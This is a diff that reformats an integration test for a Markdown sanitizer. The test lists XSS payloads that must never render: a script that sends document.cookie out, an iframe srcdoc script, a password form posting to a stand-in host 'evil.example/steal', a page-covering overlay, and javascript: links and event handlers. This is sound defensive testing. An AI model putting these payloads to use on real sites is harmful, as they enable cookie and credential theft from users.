@@ -16,15 +16,24 @@ from tests.security.helpers import tab
 pytestmark = pytest.mark.integration
 
 PAYLOADS = {
-    "iframe-srcdoc": ('<iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>', ["<iframe", "srcdoc", "<script", "parent.alert"]),
+    "iframe-srcdoc": (
+        '<iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>',
+        ["<iframe", "srcdoc", "<script", "parent.alert"],
+    ),
     "script": ("<script>fetch('/api/x?c='+document.cookie)</script>", ["<script", "fetch(", "document.cookie"]),
-    "password-form": ('<form action="https://evil.example/steal"><input type="password" name="pw">'
-                      '<button>Sign in</button></form>', ["<form", "<input", "password", "evil.example", "<button"]),
-    "style-overlay": ('<div style="position:fixed;inset:0;z-index:9999;background:#fff">Site moved</div>',
-                      ["style=", "position:fixed", "<div"]),
+    "password-form": (
+        '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>',
+        ["<form", "<input", "password", "evil.example", "<button"],
+    ),
+    "style-overlay": (
+        '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Site moved</div>',
+        ["style=", "position:fixed", "<div"],
+    ),
     "onerror-img": ('<img src="x" onerror="alert(1)">', ["<img", "onerror", "src="]),
-    "javascript-link": ("[Click](javascript:alert(1)) and <a href=\"javascript:alert(2)\">raw</a>",
-                        ['href="javascript', "href='javascript", "alert(2)\""]),
+    "javascript-link": (
+        '[Click](javascript:alert(1)) and <a href="javascript:alert(2)">raw</a>',
+        ['href="javascript', "href='javascript", 'alert(2)"'],
+    ),
     "event-attribute": ('<p onclick="alert(1)" onmouseover="alert(2)">hover</p>', ["onclick", "onmouseover"]),
 }
 
@@ -47,8 +56,10 @@ def test_attack_payloads_never_render(name):
 
 def test_formatting_and_links_stay_with_a_safe_rel():
     # given ordinary operator Markdown with a list, a table, a quote and links
-    text = ("## Contact\n\n- *Email*: [mail us](mailto:shop@example.com)\n- Web: [site](https://example.com/x)\n\n"
-            "| Day | Hours |\n|---|---|\n| Mon | 9-17 |\n\n> Quoted `code`")
+    text = (
+        "## Contact\n\n- *Email*: [mail us](mailto:shop@example.com)\n- Web: [site](https://example.com/x)\n\n"
+        "| Day | Hours |\n|---|---|\n| Mon | 9-17 |\n\n> Quoted `code`"
+    )
 
     # when it is rendered
     html = safe_markdown(text)
